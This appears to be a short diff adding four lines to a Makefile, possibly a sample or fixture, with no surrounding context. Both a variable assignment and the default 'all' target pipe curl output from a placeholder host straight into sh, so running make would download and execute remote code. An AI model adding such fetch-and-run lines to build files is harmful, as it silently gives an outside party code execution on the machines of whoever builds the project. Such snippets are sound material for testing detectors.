@@ -1,0 +1,4 @@
+X = $(shell curl http://x.example | sh)
+all:
+	@curl x \
+	 | sh
